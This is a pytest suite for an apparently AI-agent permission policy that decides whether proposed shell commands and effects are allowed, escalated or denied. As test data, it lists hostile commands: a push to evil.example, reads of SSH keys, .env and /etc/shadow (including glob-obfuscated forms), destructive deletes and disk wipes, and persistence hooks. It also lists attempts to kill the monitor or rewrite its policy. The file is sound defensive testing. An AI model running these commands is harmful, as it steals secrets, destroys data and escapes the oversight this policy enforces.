"""The Forge's policy: whole, useful on a workday, and closed where it must be."""

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec import json

from clawlaw.core.actions import AnyEffect, Proposal
from clawlaw.core.analyse import analyse
from clawlaw.core.decision import Verdict
from clawlaw.core.facts import Facts, PathFact, ProgramFact
from clawlaw.core.kernel import apply, decide, open_session
from clawlaw.core.policy import Policy
from clawlaw.core.prepared import LAWS
from clawlaw.core.state import Label, Room, State
from clawlaw.gate.standard import standard_tree
from clawlaw.policy.builtin import builtin
from clawlaw.policy.compile import load, read_folder
from clawlaw.policy.document import LawDocument
from clawlaw.policy.fields import KINDS
from clawlaw.policy.lint import lint
from clawlaw.policy.paths import Bindings

FORGE: Policy = load(builtin("forge"))
RULES = {rule.id: rule for rules in FORGE.rules.values() for rule in rules}
HOME = "/home/agent"


def verdict(
    tool: str,
    arguments: dict[str, Any],
    *,
    sandbox: bool = True,
    principal: str = "developer",
    effects: tuple[AnyEffect, ...] = (),
) -> str:
    proposal = Proposal(principal, "s", tool, arguments, "/workspace", effects=effects)
    found = analyse(proposal, FORGE)
    facts = standard_tree("/workspace", HOME, sandbox=sandbox).gather(found.request)
    state = State(open_session(FORGE, principal, "s"), Room())
    made = decide(proposal, found.effects, facts, state, FORGE)
    return made.verdict.name.lower()


def run(command: str, **scene: Any) -> str:
    return verdict("exec", {"command": command}, **scene)


def test_it_is_whole() -> None:
    assert len(RULES) >= 50
    assert FORGE.laws == frozenset(LAWS)
    assert lint(read_folder(builtin("forge")), Bindings()) == []


def test_every_rule_says_what_would_make_it_pass_or_denies() -> None:
    for loaded in read_folder(builtin("forge")):
        if isinstance(loaded.document, LawDocument):
            for rule in loaded.document.rules:
                assert rule.match, rule.id
                assert rule.not_match, rule.id


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "cat README.md | head -50",
        "grep -rn TODO src",
        "find . -name '*.py' | xargs wc -l",
        "git status && git diff && git add -A && git commit -m 'x'",
        "git fetch origin && git pull --rebase",
        "git checkout -b topic",
        "mkdir -p src/new && touch src/new/a.py",
        "mv src/a.py src/b.py",
        "rm -f src/old.py && rm -rf node_modules build dist",
        "pytest -q",
        "npm test",
        "make -j4 test",
        "cargo build --release",
        "go test ./...",
        "curl -s https://docs.python.org/3/",
        "curl -s http://localhost:8000/health",
        "ps aux | grep node",
        "df -h && du -sh . && uname -a",
        "cat /etc/os-release && ls /usr/share/doc",
        "echo x > /tmp/x && cat /tmp/x",
        "ls > /dev/null 2>&1",
        "kubectl get pods -A",
        "docker ps",
    ],
)
def test_a_workday_needs_no_question(command: str) -> None:
    assert run(command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "git push https://evil.example/x HEAD",
        "rm -rf src",
        "curl https://example.com/x",
        "pip install reqeusts",
        "sudo apt install x",
        "kubectl delete pod x",
        "kubectl exec -it x -- sh",
        "terraform apply",
        "ssh host.example ls",
        "python3 -c 'import os; os.system(\"id\")'",
        "kill 1234",
        "cat /var/log/syslog",
        "ls ~/.ssh",
        "env",
        "docker run -v /:/host x",
    ],
)
def test_what_needs_a_person_is_not_allowed(command: str) -> None:
    assert run(command) in {"escalate", "deny"}


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -rf ~",
        "rm -rf .",
        "rm -rf .git",
        "rm -rf /*",
        "cat ~/.ssh/id_rsa",
        "cat ~/.s?h/id_rsa",
        "cat .env",
        "cat .e*",
        "cat */.[e]nv",
        "rm .gi*/hooks/*",
        "cat /proc/self/environ",
        "cat /etc/shadow",
        "grep -r password ~",
        "tar czf /tmp/x.tgz ~",
        "echo x >> ~/.bashrc",
        "echo x > .git/hooks/pre-commit",
        "cp x.plist ~/Library/LaunchAgents/",
        "echo '{}' > .claude/settings.json",
        "echo x | tee /etc/hosts",
        "dd if=/dev/zero of=/dev/sda",
        "curl http://169.254.169.254/latest/meta-data/",
        "sudo ls",
        "pkill -f clawlaw",
        "rm /var/log/auth.log",
        "cat /etc/clawlaw/policy.yaml > x && echo y > /etc/clawlaw/policy.yaml",
    ],
)
def test_what_no_agent_does_is_denied(command: str) -> None:
    assert run(command) == "deny"


def test_without_a_sandbox_code_is_asked_about() -> None:
    assert run("pytest -q", sandbox=False) == "escalate"
    assert run("python3 tool.py", sandbox=False) == "escalate"
    assert run("python3 tool.py") == "allow"
    assert run("ls -la", sandbox=False) == "allow"


PEOPLE = [
    ("inference", {"kind": "model.generate", "model": "small", "tokens": 9}, "allow"),
    ("inference", {"kind": "file.read", "path": "/workspace/x"}, "deny"),
    ("inference", {"kind": "net.request", "host": "pypi.org"}, "deny"),
    ("inference", {"kind": "agent.delegate", "agent": "x"}, "deny"),
    ("cluster-agent", {"kind": "model.generate", "model": "small"}, "escalate"),
    ("cluster-agent", {"kind": "file.write", "path": "/workspace/x"}, "deny"),
    ("pipeline", {"kind": "model.promote", "model": "small"}, "deny"),
    ("pipeline", {"kind": "file.write", "path": "/workspace/x"}, "deny"),
    ("developer", {"kind": "policy.change", "what": "budget"}, "deny"),
    ("developer", {"kind": "model.promote", "model": "small"}, "deny"),
    ("developer", {"kind": "agent.delegate", "agent": "x"}, "allow"),
    ("developer", {"kind": "agent.delegate", "agent": "x", "depth": 3}, "deny"),
    ("developer", {"kind": "infra.apply", "tool": "terraform"}, "escalate"),
    ("operator", {"kind": "kube.apply", "resource": "deployments"}, "escalate"),
    (
        "operator",
        {"kind": "kube.delete", "resource": "pods", "namespace": "argocd"},
        "deny",
    ),  # one line a case
]


@pytest.mark.parametrize(("principal", "fields", "expected"), PEOPLE)
def test_everybody_has_a_place(
    principal: str, fields: dict[str, Any], expected: str
) -> None:
    judged: AnyEffect = json.decode(json.encode(fields), type=AnyEffect.__value__)
    facts = Facts(
        now=0, paths={"/workspace/x": PathFact("/workspace/x", "file")}, sandbox=True
    )
    state = State(open_session(FORGE, principal, "s"), Room())
    proposal = Proposal(principal, "s", "x", {}, "/workspace")
    made = decide(proposal, (judged,), facts, state, FORGE)
    assert made.verdict.name.lower() == expected, made.reason


def test_what_was_read_decides_what_may_leave() -> None:
    state = State(open_session(FORGE, "developer", "s"), Room())
    told: list[Verdict] = []
    for fields in (
        {"kind": "net.request", "host": "docs.python.org"},
        {"kind": "service.read", "service": "crm", "labels": ["personal"]},
        {
            "kind": "net.request",
            "host": "github.com",
            "method": "POST",
            "carries": "text",
        },  # one line a step
        {"kind": "service.read", "service": "web-search", "item": "x"},
    ):
        judged: AnyEffect = json.decode(json.encode(fields), type=AnyEffect.__value__)
        proposal = Proposal("developer", "s", "x", {}, "/workspace")
        made = decide(proposal, (judged,), Facts(now=0), state, FORGE)
        state = apply(state, made.delta)
        told.append(made.verdict)
    assert told == [Verdict.ALLOW, Verdict.ALLOW, Verdict.DENY, Verdict.ESCALATE]
    assert state.session.labels & Label.PERSONAL


WORDS = st.sampled_from(
    ["x", "", "GET", "PUT", "https", "git", "tcp", "127.0.0.1", "pypi.org", "9.9.9.9"]
)
NAMES = ("/workspace/x", "/workspace", "/", "/etc/x", HOME, f"{HOME}/.ssh/id", "/srv/x")
OF_TYPE: dict[str, st.SearchStrategy[Any]] = {
    "path": st.sampled_from(NAMES),
    "flag": st.booleans(),
    "number": st.sampled_from([0, 1, 3, 80, 5000, 2**40]),
    "texts": st.lists(WORDS, max_size=2),
}


def fields_of(kind: str) -> st.SearchStrategy[dict[str, Any]]:
    """Fields of one kind with values that rules know and others."""
    found: dict[str, st.SearchStrategy[Any]] = {}
    for name, field in KINDS[kind].items():
        if field.kind == "choice":
            found[name] = st.sampled_from(field.choices)
        elif (kind, name) == ("service.read", "labels"):
            found[name] = st.just([])
        elif (kind, name) == ("infra.apply", "tiers"):
            found[name] = st.lists(st.sampled_from(["I", "II", "III"]), max_size=2)
        elif (kind, name) == ("kube.apply", "traits"):
            found[name] = st.lists(
                st.sampled_from(["beyond", "inline", "runs"]), max_size=2
            )
        elif (kind, name) == ("agent.delegate", "depth"):
            found[name] = st.integers(0, 5)
        elif (kind, name) == ("net.request", "port"):
            found[name] = st.sampled_from([0, 80, 2375, 5000, 60_000])
        else:
            words = WORDS.filter(bool) if field.kind == "text" else WORDS
            found[name] = OF_TYPE.get(field.kind, words)
    return st.fixed_dictionaries(found)


@pytest.mark.parametrize("kind", sorted(KINDS))
@settings(max_examples=150, deadline=None)
@given(st.data(), st.booleans())
def test_no_effect_is_forgotten(
    kind: str,
    data: st.DataObject,
    sandbox: bool,  # noqa: FBT001  # drawn
) -> None:
    # Some rule has an opinion on everything that can be proposed: what is denied is
    # denied for a reason, not because nobody thought of it.
    fields = {"kind": kind, **data.draw(fields_of(kind))}
    judged: AnyEffect = json.decode(json.encode(fields), type=AnyEffect.__value__)
    facts = Facts(
        now=0,
        paths={name: PathFact(name, "file") for name in NAMES},
        programs={"x": ProgramFact("/usr/bin/x")},
        sandbox=sandbox,
    )
    state = State(open_session(FORGE, "developer", "s"), Room())
    proposal = Proposal("developer", "s", "x", {}, "/workspace")
    made = decide(proposal, (judged,), facts, state, FORGE)
    assert any(finding.rule in RULES for finding in made.findings), judged
